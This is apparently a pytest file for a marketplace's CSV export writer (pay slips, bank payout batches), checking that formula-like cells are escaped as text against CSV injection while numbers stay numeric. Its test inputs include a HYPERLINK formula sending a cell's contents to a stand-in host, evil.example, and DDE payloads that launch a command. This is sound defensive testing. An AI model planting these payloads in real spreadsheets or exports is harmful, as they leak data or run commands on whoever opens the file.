"""The one CSV writer of every export (pay slips, the bank's payout file, supervision): a cell a
spreadsheet would read as a formula is written as text (OWASP, CSV injection); numbers stay numbers."""
import csv
import io
import uuid
from datetime import date, datetime, timezone
from decimal import Decimal

import pytest

from market import csvfile
from market.settlement.model import PayoutLine, bank_batch_csv


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"pay\")", "+1+2", "-1+2",
                                  "@SUM(A1:A9)", "\tcmd", "\rcmd", "＝1+2", "＋1", "－1", "＠SUM(A1)"])
def test_a_cell_beginning_with_a_formula_character_is_written_as_text(text):
    assert csvfile.cell(text) == "'" + text


def test_other_text_is_written_as_it_is():
    assert csvfile.cell("仓库分拣 = 临时工") == "仓库分拣 = 临时工"


@pytest.mark.parametrize("value", [-500, 0, 12345, Decimal("-5.00"), 2.5, "-500", "-5.00"])
def test_a_number_stays_a_number_even_a_negative_one(value):
    assert rows_of(csvfile.text(("amount",), [(value,)]))[1] == [str(value)]
    assert '"' not in csvfile.text(("amount",), [(value,)])


def test_a_numeral_with_more_after_it_is_a_formula_not_a_number():
    assert csvfile.cell("-1+cmd|' /C calc'!A0") == "'-1+cmd|' /C calc'!A0"


def test_text_cells_are_quoted_so_a_spreadsheet_splitting_on_semicolons_keeps_them_whole():
    written = csvfile.text(("title", "hours"), [("a;=1+2", 2)])
    assert written.splitlines()[1] == '"a;=1+2",2'


def test_empty_dates_and_ids_are_cells_too():
    some_id = uuid.uuid4()
    assert rows_of(csvfile.text(("id", "day", "none"), [(some_id, date(2026, 12, 4), None)]))[1] == [
        str(some_id), "2026-12-04", ""]


def test_a_bom_is_written_first_when_asked():
    assert csvfile.text(("a",), [], bom=True) == "\ufeffa\n"


def test_a_payees_registered_name_cannot_become_a_formula_in_the_bank_file():
    line = PayoutLine(uuid.uuid4(), uuid.uuid4(), "worker", uuid.uuid4(), "=1+2+cmd|' /C calc'!A0", 123456,
                      "market payout")
    [row] = list(csv.DictReader(io.StringIO(bank_batch_csv([line]))))
    assert row["payee_name"] == "'=1+2+cmd|' /C calc'!A0"
    assert row["amount_fen"] == "123456" and row["amount_yuan"] == "1234.56"


def test_a_negative_amount_stays_a_number_in_the_bank_file():
    line = PayoutLine(uuid.uuid4(), uuid.uuid4(), "worker", uuid.uuid4(), "张三", -500, "market payout")
    written = bank_batch_csv([line])
    assert ",-500,-5.00," in written
    assert next(csv.DictReader(io.StringIO(written)))["amount_yuan"] == "-5.00"


def test_an_instant_is_written_in_shanghai_time_like_every_response_writes_it():
    assert csvfile.cell(datetime(2026, 12, 1, 1, 30, tzinfo=timezone.utc)) == "2026-12-01T09:30:00+08:00"
    assert csvfile.cell(date(2026, 12, 1)) == "2026-12-01"
